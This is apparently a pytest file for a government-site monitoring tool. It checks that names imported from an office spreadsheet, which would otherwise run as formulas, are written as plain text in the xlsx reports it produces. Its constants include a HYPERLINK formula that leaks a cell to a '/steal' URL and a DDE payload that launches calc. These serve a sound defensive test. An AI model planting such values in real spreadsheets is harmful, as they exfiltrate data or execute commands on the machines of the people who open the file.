"""Names from an office's sheet that a spreadsheet would run as formulas (=HYPERLINK(…), +…, -…, @…) stay text in
every xlsx govwatch writes: the quarterly score table (``govwatch report``, real CLI in a subprocess, over a store
the real daemon filled from that sheet) and the demo's sheet. Checked by opening the files with openpyxl and in
their XML (no formula element)."""

from __future__ import annotations

import subprocess
import sys
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import xlsxwriter
from openpyxl import load_workbook
from ruamel.yaml import YAML

from monitor import config
from monitor.demo.command import write_sheet
from monitor.evaluate import TZ
from monitor.service import monitoring
from tests.conftest import PageServer, list_page

UNIT = '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"点击查看详情")'
SITE = "+cmd|' /C calc'!A0"
COLUMN = "-2+3"
CATEGORY_NOTE = "@SUM(1,2)"


def _cells(path: Path) -> dict[str, tuple[str | None, str]]:
    """Every text cell of every sheet: value → (data type, quote prefix)."""
    book = load_workbook(path)
    return {cell.value: (cell.data_type, cell.quotePrefix) for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if isinstance(cell.value, str)}


def _no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


async def test_names_from_a_sheet_stay_text_in_the_score_table(tmp_path: Path, page_server: PageServer) -> None:
    old = datetime.now(TZ).date() - timedelta(days=60)
    page_server.set("/col/", list_page([(f"关于开展第{i}次安全检查的通知", (old - timedelta(days=3 * i)).isoformat())
                                        for i in range(12)]))
    sheet = tmp_path / "栏目清单.xlsx"
    book = xlsxwriter.Workbook(sheet)
    ws = book.add_worksheet("栏目清单")
    for r, row in enumerate([("单位", "网站", "栏目", "地址", "类别"),
                             (UNIT, SITE, COLUMN, page_server.url("/col/"), "动态要闻")]):
        for c, value in enumerate(row):
            ws.write_string(r, c, value)  # typed as text, as an office's sheet holds it
    book.close()
    imported = tmp_path / "imported.yaml"
    run = subprocess.run([sys.executable, "-m", "monitor.cli", "import-excel", str(sheet), "-o", str(imported)],
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    data = YAML(typ="safe").load(imported.read_text(encoding="utf-8"))
    assert data["units"][0]["name"] == UNIT
    data["settings"] = {"store": str(tmp_path / "govwatch.sqlite3"), "checks": [],
                        "fetch": {"timeout": "5s", "per_host_interval": "0s"}}
    inventory = tmp_path / "inventory.yaml"
    YAML().dump(data, inventory)
    async with monitoring(config.load(inventory)) as monitor:
        await monitor.sweep_once()
        assert {t.verdict.state.value for t in monitor.tracked.values()} >= {"red"}  # a warning row names it
    now = datetime.now(TZ)
    quarter = f"{now.year}Q{(now.month - 1) // 3 + 1}"
    run = subprocess.run([sys.executable, "-m", "monitor.cli", "report", "--config", str(inventory), "--quarter",
                          quarter, "--out", str(tmp_path / "out")], capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    table = tmp_path / "out" / f"score-{quarter}.xlsx"
    cells = _cells(table)
    for text in (UNIT, SITE, COLUMN):
        assert cells[text] == ("s", True), (text, cells.get(text))
    _no_formula(table)


def test_the_demo_sheet_keeps_names_as_text(tmp_path: Path) -> None:
    inventory = {"units": [{"id": "u1", "name": UNIT}],
                 "sites": [{"unit": "u1", "name": SITE, "homepage": "http://127.0.0.1:8081/",
                            "columns": [{"name": CATEGORY_NOTE, "url": "http://127.0.0.1:8081/a/",
                                         "category": "通知公告"}]}]}
    path = tmp_path / "栏目清单.xlsx"
    write_sheet(inventory, path)
    cells = _cells(path)
    assert cells[UNIT] == cells[SITE] == cells[CATEGORY_NOTE] == ("s", True)
    assert cells["通知公告"] == ("s", False)  # ordinary text untouched
    _no_formula(path)
